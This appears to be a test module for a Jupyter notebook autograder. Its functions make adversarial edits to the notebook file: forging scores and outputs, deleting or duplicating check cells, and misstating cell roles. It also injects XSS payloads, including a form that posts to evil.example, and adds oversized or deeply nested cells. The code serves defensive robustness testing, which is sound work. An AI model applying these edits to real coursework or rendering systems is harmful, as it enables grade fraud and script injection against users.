"""What an attacker does to the notebook file itself, beyond the code in its cells.

Each function changes the notebook in place; a case names it in its header `# edit: NAME`.
"""

from __future__ import annotations

from copy import deepcopy

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

MARKUP = (
    "<script>window.attacked = 1</script><img src=x onerror='window.attacked = 1'>",
    "[click](javascript:window.attacked=1) ![x](data:text/html,<script>attacked=1</script>)",
    "<iframe srcdoc='<script>parent.attacked = 1</script>'></iframe><style>*{display:none}</style>",
    "<form action='https://evil.example'><input name=x><button>Save</button></form>",
    "$\\href{javascript:window.attacked=1}{x}$ <svg onload='window.attacked = 1'></svg>",
)


def deep_metadata(notebook: NotebookNode) -> None:
    """Nest the notebook's metadata deeper than a careless reader can follow."""
    deep: NotebookNode = NotebookNode()
    for _ in range(300):
        deep = NotebookNode(inner=deep)
    notebook.metadata["deep"] = deep


def graded(notebook: NotebookNode) -> list[NotebookNode]:
    """The cells that give points."""
    return [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]


def checks_say_forty(notebook: NotebookNode) -> None:
    """Replace every check by a number."""
    for cell in graded(notebook):
        cell.source = "40.0"


def checks_deleted(notebook: NotebookNode) -> None:
    """Take the checks out."""
    left_out = graded(notebook)
    notebook.cells = [cell for cell in notebook.cells if cell not in left_out]


def checks_doubled(notebook: NotebookNode) -> None:
    """Put a copy that says 40.0 before each check and another one behind it."""
    cells = []
    for cell in notebook.cells:
        copies = []
        if cell.metadata.get("nbgrader", {}).get("grade"):
            for place in ("before", "behind"):
                copies.append(deepcopy(cell))
                copies[-1].source, copies[-1].id = "40.0", f"{cell.id}-{place}"
        cells += [*copies[:1], cell, *copies[1:]]
    notebook.cells = cells


def thousand_points(notebook: NotebookNode) -> None:
    """Change what the metadata says about points, scores and the format itself."""
    for cell in graded(notebook):
        cell.metadata["nbgrader"] |= {
            "points": 1000.0, "score": 1000.0, "auto_score": 1000.0, "manual_score": 1000.0,
            "extra_credit": 1000.0, "schema_version": 3,
        }  # fmt: skip
        cell.metadata["course"]["points"] = 1000.0
    notebook.metadata["nbgrader"] = {"score": 1000.0, "max_score": 1000.0}


def all_ids_of_e3(notebook: NotebookNode) -> None:
    """Give each answer and check the id of another exercise's, E3's in place of E1's."""
    for cell in notebook.cells:
        found = cell.metadata.get("nbgrader", {})
        number, _, rest = str(found.get("grade_id", "")).partition("_")
        swapped = {"e1": "e3", "e3": "e1", "e2": "e8", "e8": "e2", "e4": "e3"}.get(number)
        if swapped and rest in ("solution", "check"):
            found["grade_id"] = f"{swapped}_{rest}"
            cell.metadata["course"]["exercise"] = swapped.upper()


def bonus_cells(notebook: NotebookNode) -> None:
    """Add graded cells that nobody asked for, among them one that a person would mark."""
    for number, (solution, locked) in enumerate([(False, True), (True, False), (False, False)]):
        about = {
            "grade": True, "grade_id": f"bonus_{number}", "points": 100.0, "solution": solution,
            "locked": locked, "schema_version": 3, "task": False, "cell_type": "code",
        }  # fmt: skip
        cell = new_code_cell("100.0", id=f"bonus-{number}")
        cell.metadata["nbgrader"] = about
        cell.metadata["course"] = {"role": "check", "exercise": "E1"}
        notebook.cells.append(cell)


def roles_claimed(notebook: NotebookNode) -> None:
    """Lie about what each cell is for."""
    for cell in notebook.cells:
        about = cell.metadata.get("nbgrader")
        if about is None:
            cell.metadata["course"] = {"role": "check", "exercise": "E1"}
            continue
        was_check = about["grade"]
        about |= {"locked": not about["locked"], "solution": not about["solution"]}
        about |= {"grade": not about["grade"], "points": 40.0}
        cell.metadata["course"] = {"role": "demonstration" if was_check else "given"}


def outputs_filled_in(notebook: NotebookNode) -> None:
    """Write what a perfect run would show."""
    for cell in graded(notebook):
        table = {"text/html": "<b>40 of 40 points</b>", "text/plain": "40 of 40 points"}
        cell.outputs = [
            new_output("display_data", table),
            new_output("execute_result", {"text/plain": "40.0"}, execution_count=1),
        ]
        cell.execution_count = 1


def types_changed(notebook: NotebookNode) -> None:
    """Make checks and answers cells of other types."""
    for number, cell in enumerate(c for c in notebook.cells if "nbgrader" in c.metadata):
        cell.cell_type = ("markdown", "raw", "code")[number % 3]
        if cell.cell_type != "code":
            cell.pop("outputs", None)
            cell.pop("execution_count", None)
        cell.metadata["nbgrader"] |= {"cell_type": "markdown", "points": 40.0}


def markup_in_cells(notebook: NotebookNode) -> None:
    """Add markdown that acts where it is rendered without care."""
    for number, text in enumerate(MARKUP):
        notebook.cells.append(new_markdown_cell(text, id=f"markup-{number}"))
        notebook.cells.append(new_raw_cell(text, id=f"raw-{number}"))
        notebook.cells[-1].metadata |= {"format": "text/html", "raw_mimetype": "text/html"}
    attached = new_markdown_cell("![x](attachment:a.png)", id="attached")
    attached["attachments"] = {"a.png": {"image/svg+xml' onerror='window.attacked=1": MARKUP[0]}}
    notebook.cells.append(attached)
    notebook.metadata["title"] = MARKUP[0]
    notebook.metadata["authors"] = [{"name": MARKUP[0]}]


def nothing(notebook: NotebookNode) -> None:
    """Leave it as it is."""


def many_cells(notebook: NotebookNode) -> None:
    """Put two thousand small cells behind the first answer."""
    at = 1 + next(i for i, c in enumerate(notebook.cells) if c.source.startswith('check("E1")'))
    cells = [new_code_cell(f"x{n} = {n}", id=f"attack-many-{n}") for n in range(2000)]
    notebook.cells[at:at] = cells


def long_cell(notebook: NotebookNode) -> None:
    """Put in code that is long, and code that is nested deep."""
    for number, code in enumerate(("x = [" + "1, " * 1_000_000 + "]", "(" * 5000 + ")" * 5000)):
        notebook.cells.append(new_code_cell(code, id=f"attack-long-{number}"))
